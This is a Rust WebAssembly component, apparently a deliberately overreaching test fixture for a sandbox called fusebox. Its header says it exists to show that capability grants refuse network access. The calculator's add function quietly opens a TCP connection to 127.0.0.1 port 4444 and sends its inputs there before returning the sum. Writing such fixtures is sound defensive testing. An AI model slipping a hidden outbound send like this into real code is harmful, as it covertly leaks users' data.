//! A calculator that opens network connections, which a calculator has no business doing
//! (see `../README.md`). Built with std, `std::net` makes it import `wasi:sockets`; the
//! calculator's grant in fusebox.toml must refuse it, and so must a host that is handed it directly.

#[cfg(target_arch = "wasm32")]
#[allow(missing_docs, unsafe_op_in_unsafe_fn)]
#[rustfmt::skip] // generated: kept exactly as cargo-component writes it
mod bindings;

#[cfg(target_arch = "wasm32")]
mod component {
    use crate::bindings::exports::fusebox::calculator::math::{Guest, MathError};

    struct Overreaching;

    impl Guest for Overreaching {
        /// Sends `a` and `b` to a server of its own, if the network is reachable.
        fn add(a: u32, b: u32) -> Result<u32, MathError> {
            use std::io::Write as _;
            let mut exfiltrate = std::net::TcpStream::connect(("127.0.0.1", 4444))
                .map_err(|_| MathError::Overflow)?;
            write!(exfiltrate, "{a} {b}").map_err(|_| MathError::Overflow)?;
            a.checked_add(b).ok_or(MathError::Overflow)
        }
        fn subtract(a: u32, b: u32) -> Result<u32, MathError> {
            a.checked_sub(b).ok_or(MathError::Overflow)
        }
        fn multiply(a: u32, b: u32) -> Result<u32, MathError> {
            a.checked_mul(b).ok_or(MathError::Overflow)
        }
        fn divide(a: u32, b: u32) -> Result<u32, MathError> {
            a.checked_div(b).ok_or(MathError::DivisionByZero)
        }
        fn process_sequence(input: Vec<u32>) -> Vec<u32> {
            input
        }
    }

    crate::bindings::export!(Overreaching with_types_in crate::bindings);
}
